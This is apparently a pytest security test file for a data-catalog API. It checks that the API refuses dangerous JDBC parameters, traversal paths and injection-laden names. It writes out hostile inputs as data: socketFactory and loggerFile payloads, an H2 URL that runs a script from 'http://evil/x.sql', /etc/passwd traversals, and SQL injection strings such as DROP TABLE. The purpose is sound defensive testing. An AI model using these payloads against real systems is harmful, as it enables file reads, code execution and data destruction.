"""Hostile input through the API, refused before it can do harm:

- JDBC parameters that turn a connection into file reads or code execution (DESIGN.md's list), in the URL or the
  properties, in any spelling → 400 naming the parameter; nothing stored, no audit entry, no connection attempted;
- local paths outside the allowed roots for Delta warehouses and Hive conf dirs (`..`, symlinks, `file:` URIs,
  relative paths, NUL) → 400; and a Spark SQL identifier that walks out of a Delta warehouse → refused;
- SQL or path syntax in database/table names of the browsing endpoints, for every catalog type → 400 before any
  client is called, and the source database is untouched; a `search` text is a literal substring.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import psycopg
import pytest
from rest_framework.test import APIClient

from catalogs.models import Catalog, CatalogChange
from lakeport_engine.catalog_types.jdbc import DANGEROUS_PARAMETERS
from tests.conftest import MariaDatabase, PgDatabase
from tests.support.secrets import register_secret

pytestmark = pytest.mark.django_db
API = "/api/v1/teams/acme"
PASSWORD = register_secret("attack-Secr3t-77c1d2e3")

# The DESIGN.md list, spelled as the drivers document them; the implementation's set must contain each one.
DESIGN_LIST = {
    "postgresql": ["socketFactory", "socketFactoryArg", "sslfactory", "sslfactoryarg", "sslhostnameverifier",
                   "sslpasswordcallback", "loggerFile", "loggerLevel", "authenticationPluginClassName", "options"],
    "mysql": ["allowLoadLocalInfile", "allowUrlInLocalInfile", "allowLoadLocalInfileInPath", "autoDeserialize",
              "queryInterceptors", "statementInterceptors", "exceptionInterceptors",
              "connectionLifecycleInterceptors", "init", "initSql", "socketFactory", "sessionVariables"],
}
ATTACK_VALUES = {"socketFactory": "org.springframework.context.support.ClassPathXmlApplicationContext",
                 "loggerFile": "/etc/cron.d/x", "allowLoadLocalInfile": "true", "autoDeserialize": "true"}


class Listener:
    """A TCP listener that counts connection attempts: a refused configuration must never reach the network."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def jdbc(kind: str, port: int, *, query: str = "", properties: dict[str, str] | None = None,
         name: str = "attack") -> dict[str, Any]:
    scheme = "postgresql" if kind == "postgresql" else "mysql"
    config: dict[str, Any] = {"type": kind, "base-url": f"jdbc:{scheme}://127.0.0.1:{port}/{query}",
                              "default-database": "shop", "username": "u", "password": PASSWORD}
    if properties is not None:
        config["properties"] = properties
    return {"catalog_name": name, "catalog_type": "jdbc", "configuration": config}


def spellings(param: str) -> list[str]:
    return sorted({param, param.lower(), param.upper(), param[0].upper() + param[1:]})


def attack_cases() -> list[tuple[str, str, str]]:
    """(kind, placement, parameter spelling) for every listed parameter."""
    cases = []
    for kind, params in DESIGN_LIST.items():
        for param in params:
            for spelled in spellings(param):
                cases.append((kind, "url", spelled))
            cases.append((kind, "url-encoded", param))
            cases.append((kind, "url-after-allowed", param))
            cases.append((kind, "url-no-value", param))
            cases.append((kind, "properties", param))
    return cases


def place(kind: str, placement: str, param: str, port: int) -> dict[str, Any]:
    value = ATTACK_VALUES.get(param, "x")
    if placement == "properties":
        return jdbc(kind, port, properties={param: value})
    if placement == "url-encoded":  # the drivers decode parameter names; so must the check
        encoded = "".join(f"%{ord(c):02X}" if i % 2 == 0 else c for i, c in enumerate(param))
        return jdbc(kind, port, query=f"shop?{encoded}={quote(value)}")
    if placement == "url-after-allowed":
        allowed = "sslmode=disable" if kind == "postgresql" else "useSSL=false"
        return jdbc(kind, port, query=f"shop?{allowed}&{param}={quote(value)}")
    if placement == "url-no-value":
        return jdbc(kind, port, query=f"shop?{param}")
    return jdbc(kind, port, query=f"shop?{param}={quote(value)}")


def test_the_refused_set_contains_every_parameter_design_md_lists() -> None:
    for kind, params in DESIGN_LIST.items():
        assert {p.lower() for p in params} <= DANGEROUS_PARAMETERS[kind], kind


@pytest.mark.parametrize(("kind", "placement", "param"), attack_cases())
def test_jdbc_attack_parameters_are_refused_everywhere(
    admin_client: APIClient, listener: Listener, kind: str, placement: str, param: str
) -> None:
    body = place(kind, placement, param, listener.port)
    stored_before = Catalog.objects.count()
    answers = [
        admin_client.post(f"{API}/catalogs/", body, format="json"),
        admin_client.put(f"{API}/catalogs/attack/", body, format="json"),
        admin_client.post(f"{API}/apply/", {"catalogs": [body]}, format="json"),
        admin_client.post(f"{API}/catalogs/test-connection/",
                          {"catalog_type": "jdbc", "configuration": body["configuration"]}, format="json"),
    ]
    for resp in answers:
        assert resp.status_code == 400, (resp.wsgi_request.path, resp.status_code, resp.content[:300])
        error = resp.json()["error"]
        assert error["code"] == "invalid" and param.lower() in str(error).lower(), error
        assert PASSWORD not in resp.content.decode()
    assert Catalog.objects.count() == stored_before and not CatalogChange.objects.exists()
    assert listener.accepted == 0  # refused before any connection


def test_an_attack_parameter_cannot_be_patched_into_a_saved_catalog(admin_client: APIClient, listener: Listener) -> None:
    assert admin_client.post(f"{API}/catalogs/", jdbc("postgresql", listener.port, query="shop?sslmode=disable"),
                             format="json").status_code == 201
    for patch in ({"configuration": {"base-url": f"jdbc:postgresql://127.0.0.1:{listener.port}/shop?socketFactory=x"}},
                  {"configuration": {"properties": {"loggerFile": "/tmp/x"}}}):
        resp = admin_client.patch(f"{API}/catalogs/attack/", patch, format="json")
        assert resp.status_code == 400, resp.content
    stored = admin_client.get(f"{API}/catalogs/attack/").json()
    assert stored["version"] == 1 and "socketFactory" not in str(stored) and "loggerFile" not in str(stored)


@pytest.mark.parametrize("url", [
    "jdbc:mysql://address=(host=127.0.0.1)(allowLoadLocalInfile=true)/shop",  # MySQL's key-value host form
    "jdbc:mysql://127.0.0.1,evil:3306/shop?allowLoadLocalInfile=true",
    "jdbc:postgresql://127.0.0.1/shop;socketFactory=x",
    "jdbc:postgresql://user:pw@127.0.0.1/shop",
    "jdbc:postgresql://127.0.0.1/shop?user=postgres&password=x",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    "jdbc:postgresql://127.0.0.1:99999/shop",
])
def test_jdbc_urls_outside_the_plain_form_are_refused(admin_client: APIClient, url: str) -> None:
    kind = "mysql" if url.startswith("jdbc:mysql") else "postgresql"
    body = jdbc(kind, 1)
    body["configuration"]["base-url"] = url
    resp = admin_client.post(f"{API}/catalogs/", body, format="json")
    assert resp.status_code == 400, resp.content
    assert not Catalog.objects.exists()


# ---- local paths ---------------------------------------------------------------------------------------------
@pytest.fixture
def escape_link(tmp_path: Path) -> str:
    """A symlink inside an allowed root (the temp dir) that points at / ."""
    link = tmp_path / "to-root"
    os.symlink("/", link)
    return str(link)


TRAVERSALS = ["/etc", "/tmp/../etc", "/tmp/./../root", "/tmp/x/../../etc/passwd", "file:///etc", "file:/etc",
              "FILE:///etc", "relative/warehouse", "../../etc", "~/warehouse", "/tmp/wh\x00/etc", "",
              "s3a://bucket/../../x", "hdfs://namenode/warehouse", "//etc", "/proc/self/root/etc"]


@pytest.mark.parametrize("warehouse", TRAVERSALS + ["<link>"])
def test_delta_warehouses_outside_the_allowed_roots_are_refused(
    admin_client: APIClient, warehouse: str, escape_link: str
) -> None:
    path = escape_link if warehouse == "<link>" else warehouse
    body = {"catalog_name": "lake", "catalog_type": "delta", "configuration": {"warehouse": path}}
    for resp in (admin_client.post(f"{API}/catalogs/", body, format="json"),
                 admin_client.post(f"{API}/catalogs/test-connection/",
                                   {"catalog_type": "delta", "configuration": body["configuration"]}, format="json")):
        assert resp.status_code == 400, (path, resp.status_code, resp.content[:300])
        assert "warehouse" in str(resp.json()["error"]["details"])
    assert not Catalog.objects.exists()


@pytest.mark.parametrize("field", ["hive-conf-dir", "hadoop-conf-dir"])
@pytest.mark.parametrize("path", ["/etc", "/tmp/../etc", "<link>", "relative/conf"])
def test_hive_conf_dirs_outside_the_allowed_roots_are_refused(
    admin_client: APIClient, field: str, path: str, escape_link: str
) -> None:
    config = {"metastore-uris": "thrift://127.0.0.1:9083", field: escape_link if path == "<link>" else path}
    resp = admin_client.post(f"{API}/catalogs/", {"catalog_name": "hive_x", "catalog_type": "hive",
                                                  "configuration": config}, format="json")
    assert resp.status_code == 400, resp.content
    assert not Catalog.objects.exists()


def test_a_delta_warehouse_cannot_be_patched_outside_the_roots(admin_client: APIClient, tmp_path: Path) -> None:
    (tmp_path / "wh").mkdir()
    body = {"catalog_name": "lake", "catalog_type": "delta", "configuration": {"warehouse": str(tmp_path / "wh")}}
    assert admin_client.post(f"{API}/catalogs/", body, format="json").status_code == 201
    resp = admin_client.patch(f"{API}/catalogs/lake/", {"configuration": {"warehouse": "/etc"}}, format="json")
    assert resp.status_code == 400
    assert admin_client.get(f"{API}/catalogs/lake/").json()["configuration"]["warehouse"] == str(tmp_path / "wh")


# ---- names in the browsing endpoints -------------------------------------------------------------------------
HOSTILE_NAMES = [
    "x'; DROP TABLE canary; --", 'public" OR "1"="1', "orders;SELECT 1", "orders UNION SELECT 1", "a b",
    "public.canary", "`canary`", "..", "../..", "sales/../../etc", ".hidden", "%2e%2e", "a\\b",
    "orders\x00", "x" * 129,
]


@pytest.fixture
def browse_catalogs(admin_client: APIClient, pg_source: PgDatabase, mariadb_source: MariaDatabase,
                    tmp_path: Path) -> dict[str, str]:
    """A JDBC PostgreSQL, a JDBC MariaDB and a Delta catalog, created through the API, each over a `canary` table."""
    import pyarrow as pa
    from deltalake import write_deltalake

    with psycopg.connect(pg_source.dsn, autocommit=True) as conn:
        conn.execute("CREATE TABLE public.canary (id int)")
        conn.execute("INSERT INTO public.canary VALUES (1), (2)")
    with mariadb_source.connect() as conn, conn.cursor() as cur:
        cur.execute("CREATE TABLE canary (id int)")
        cur.execute("INSERT INTO canary VALUES (1), (2)")
    write_deltalake(str(tmp_path / "wh" / "sales" / "canary"), pa.table({"id": [1, 2]}))
    bodies = [
        {"catalog_name": "pg", "catalog_type": "jdbc", "configuration": {
            "type": "postgresql", "base-url": "jdbc:postgresql://127.0.0.1:5432/", "default-database": pg_source.name,
            "username": "postgres", "password": PASSWORD}},
        {"catalog_name": "maria", "catalog_type": "jdbc", "configuration": {
            "type": "mysql", "base-url": "jdbc:mysql://127.0.0.1:3306/", "default-database": mariadb_source.name,
            "username": "root", "password": ""}},
        {"catalog_name": "lake", "catalog_type": "delta", "configuration": {"warehouse": str(tmp_path / "wh")}},
    ]
    for body in bodies:
        resp = admin_client.post(f"{API}/catalogs/", body, format="json")
        assert resp.status_code == 201, resp.content
    return {"pg": "public", "maria": mariadb_source.name, "lake": "sales"}


def canaries(pg_source: PgDatabase, mariadb_source: MariaDatabase, tmp_path: Path) -> tuple[int, int, bool]:
    with psycopg.connect(pg_source.dsn) as conn:
        pg_rows = conn.execute("SELECT count(*) FROM public.canary").fetchone()[0]
    with mariadb_source.connect() as conn, conn.cursor() as cur:
        cur.execute("SELECT count(*) FROM canary")
        maria_rows = cur.fetchone()[0]
    return pg_rows, maria_rows, (tmp_path / "wh" / "sales" / "canary" / "_delta_log").is_dir()


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_database_and_table_names_are_refused_for_every_catalog_type(
    viewer_client: APIClient, browse_catalogs: dict[str, str], pg_source: PgDatabase,
    mariadb_source: MariaDatabase, tmp_path: Path, name: str
) -> None:
    quoted = quote(name, safe="")
    for catalog, database in browse_catalogs.items():
        for path, what in ((f"{API}/catalogs/{catalog}/databases/{quoted}/tables/", "database"),
                           (f"{API}/catalogs/{catalog}/databases/{quoted}/tables/canary/", "database"),
                           (f"{API}/catalogs/{catalog}/databases/{database}/tables/{quoted}/", "table")):
            resp = viewer_client.get(path)
            assert resp.status_code == 400, (catalog, path, resp.status_code, resp.content[:300])
            assert what in resp.json()["error"]["details"], resp.json()
    assert canaries(pg_source, mariadb_source, tmp_path) == (2, 2, True)


@pytest.mark.parametrize("name", ["canary--", "canary$", "-canary"])
def test_odd_but_legal_names_are_looked_up_literally(
    viewer_client: APIClient, browse_catalogs: dict[str, str], pg_source: PgDatabase,
    mariadb_source: MariaDatabase, tmp_path: Path, name: str
) -> None:
    """Characters a name may hold ('-', '$') are passed as a value, never as SQL: 'canary--' is not 'canary'."""
    for catalog, database in browse_catalogs.items():
        resp = viewer_client.get(f"{API}/catalogs/{catalog}/databases/{database}/tables/{quote(name)}/")
        assert resp.status_code == 404, (catalog, resp.status_code, resp.content[:300])
    assert canaries(pg_source, mariadb_source, tmp_path) == (2, 2, True)


def test_the_search_text_is_a_literal_substring_not_sql(viewer_client: APIClient, browse_catalogs: dict[str, str]) -> None:
    for catalog, database in browse_catalogs.items():
        base = f"{API}/catalogs/{catalog}/databases/{database}/tables/"
        assert [t["name"] for t in viewer_client.get(base).json()["tables"]] == ["canary"]
        for text in ("%' OR '1'='1", "' OR 1=1 --", "%", "_", ".*"):
            resp = viewer_client.get(base, {"search": text})
            assert resp.status_code == 200 and resp.json()["tables"] == [], (catalog, text, resp.json())


# ---- a Spark SQL identifier walking out of a Delta warehouse ---------------------------------------------------
@pytest.fixture(scope="module")
def engine_worker(django_db_setup: Any, django_db_blocker: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A real worker: preview runs in its team engine."""
    from tests.jobs.conftest import running_worker

    with running_worker(tmp_path_factory, "attack-worker", beat=False) as worker:
        yield worker


@pytest.mark.django_db(transaction=True)  # the worker's engine reads the catalog rows: they must be committed
@pytest.mark.parametrize("reference", ["lake.`..`.outside", "lake.`..`.`outside`", "lake.sales.`../../outside`",
                                       "lake.`.`.`../outside`", "lake.`sales/..`.`../outside`"])
def test_a_delta_identifier_cannot_leave_the_warehouse(
    engine_worker: Any, admin_client: APIClient, developer_client: APIClient, tmp_path: Path, reference: str
) -> None:
    import pyarrow as pa
    from deltalake import write_deltalake

    planted = "planted-outside-the-warehouse"
    write_deltalake(str(tmp_path / "outside"), pa.table({"v": [planted]}))  # a Delta table next to the warehouse
    write_deltalake(str(tmp_path / "wh" / "sales" / "orders"), pa.table({"id": [1]}))
    body = {"catalog_name": "lake", "catalog_type": "delta", "configuration": {"warehouse": str(tmp_path / "wh")}}
    assert admin_client.post(f"{API}/catalogs/", body, format="json").status_code == 201
    assert developer_client.post(f"{API}/sql/preview/", {"sql": "SELECT * FROM lake.sales.orders"},
                                 format="json").json()["rows"] == [[1]]  # the catalog itself works

    resp = developer_client.post(f"{API}/sql/preview/", {"sql": f"SELECT * FROM {reference}"}, format="json")
    assert resp.status_code == 400, resp.content[:500]
    assert planted not in resp.content.decode()
    assert "lake" in resp.json()["error"]["message"]
